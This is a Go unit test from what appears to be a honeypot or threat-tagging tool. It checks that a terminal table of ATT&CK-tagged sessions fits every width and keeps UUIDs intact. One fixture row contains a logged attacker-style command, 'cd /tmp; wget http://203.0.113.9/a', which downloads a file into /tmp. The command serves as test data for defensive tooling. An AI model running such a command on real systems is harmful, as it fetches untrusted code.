package main

import (
	"strings"
	"testing"

	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
)

// TestTagTableFits: no row of tags is wider than the terminal, whatever is in it, a
// requested UUID stays whole, and wide terminals show more.
func TestTagTableFits(t *testing.T) {
	rows := [][]string{
		{"2026-05-04 05:49:05", "203.0.113.7", "e41b2c99d706", "T1059.004 Command and Scripting Interpreter: Unix Shell", "Command and Control", "informational", "0.95", "TC1501 +12", "cd /tmp; wget http://203.0.113.9/a"},
		{"2026-05-04 05:49:05", "2001:db8:1111:2222:3333:4444:5555:6666 (own)", strings.Repeat("s", 200), "T9999", "", "", "", strings.Repeat("規則", 40), strings.Repeat("漢字", 80)},
		{"-", "", "", "", "", "", "", "", "/" + strings.Repeat("路/", 90) + "😀.sh"},
	}
	uuid := "f4071fcf-0c0b-57a1-9b22-486fb63c1e3c"
	for _, withUUID := range []bool{false, true} {
		for width := 36; width < 260; width++ {
			columns, _ := tagColumns(width, withUUID)
			table := term.Table{Columns: columns}
			for _, row := range rows {
				row = append([]string{}, row...)
				if withUUID {
					row = append(row, uuid)
				}
				table.Add(row...)
			}
			var b strings.Builder
			if err := table.Print(&b, term.Terminal{Width: width, UTF8: true}); err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(b.String()) {
				if n := term.Cells(strings.TrimSuffix(line, "\n")); n > width {
					t.Fatalf("%d cells at %d:\n%s", n, width, b.String())
				}
			}
			if withUUID && strings.Count(b.String(), uuid) != len(rows) {
				t.Fatalf("at %d a UUID is cut:\n%s", width, b.String())
			}
			for title, from := range map[string]int{"TIME (UTC)": 36, "TEXT": 36, "ATTACKER": 60, "SESSION": 160} {
				if !withUUID && width >= from && !strings.Contains(b.String(), title) {
					t.Fatalf("at %d there is no %s:\n%s", width, title, b.String())
				}
			}
		}
	}
}
